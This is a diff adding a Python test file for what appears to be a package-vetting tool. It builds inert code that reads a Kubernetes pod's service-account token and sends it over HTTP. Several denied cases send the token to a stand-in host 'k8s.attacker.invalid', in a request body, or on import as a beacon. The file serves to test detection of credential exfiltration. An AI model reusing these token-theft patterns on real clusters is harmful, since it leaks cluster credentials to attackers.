@@ -1,0 +1,59 @@
+"""Shapes of widely used projects that no rule was tuned on (ADR 0128's fresh corpus), each
+beside the malicious shape next to it (ADR 0129).
+
+Every sample is inert and made here (vetting only reads files): an in-cluster Kubernetes
+client signing in with its pod's token, a Cython demo importing its sibling module, a YAML
+library's changelog quoting a Python tag, a test suite's ``sitecustomize.py``, and a name
+that is itself among the most downloaded projects."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
+
+POD_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+IN_CLUSTER = (
+    "import os, urllib.request\n"
+    "def pod_image():\n"
+    f"    with open('{POD_TOKEN}') as f:\n"
+    "        token = f.read()\n"
+    "    host = os.getenv('KUBERNETES_SERVICE_HOST')\n"
+    "    port = os.getenv('KUBERNETES_PORT_443_TCP_PORT')\n"
+    "    url = 'https://{{}}:{{}}/api/v1/namespaces/default/pods/{{}}'.format(host, port, "
+    "os.getenv('HOSTNAME'))\n"
+    "    request = urllib.request.Request({url}, headers={{'{header}': f'Bearer {{token}}'}}"
+    "{body})\n"
+    "    return urllib.request.urlopen(request, timeout=3).read()\n"
+)
+
+
+def in_cluster(url: str = "url", header: str = "Authorization", body: str = "") -> str:
+    return IN_CLUSTER.format(url=url, header=header, body=body)
+
+
+DENIED: dict[str, dict[str, str]] = {
+    # The pod's token in an Authorization header, to a host written in the code.
+    "pod-token-signed-in-elsewhere": init(in_cluster(url="'https://k8s.attacker.invalid/x'")),
+    # To the cluster's address, but in the body: a header is how a client signs in.
+    "pod-token-in-a-body-to-the-cluster": init(in_cluster(body=", data=token.encode()")),
+    # In a header of no authentication name.
+    "pod-token-in-another-header": init(in_cluster(header="X-Data")),
+    # The same client run on import: the environment sent early is a beacon.
+    "pod-token-signed-in-on-import": init(in_cluster() + "pod_image()\n"),
+}
+HELD: dict[str, dict[str, str]] = {}
+ALLOWED: dict[str, dict[str, str]] = {
+    # wandb's image look-up: the pod's token sent, when called, to the API server the
+    # kubelet names in the environment (ADR 0129; denied as exfiltration before).
+    "pod-token-signed-in-to-its-cluster": init(in_cluster()),
+    "pod-token-signed-in-to-the-cluster-name": init(
+        in_cluster(url="'https://kubernetes.default.svc/api/v1/namespaces'")
+    ),
+}
+
+
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
+def test_fresh_popular_shapes(files: dict[str, str], expected: Outcome) -> None:
+    assert vet_package(files) is expected
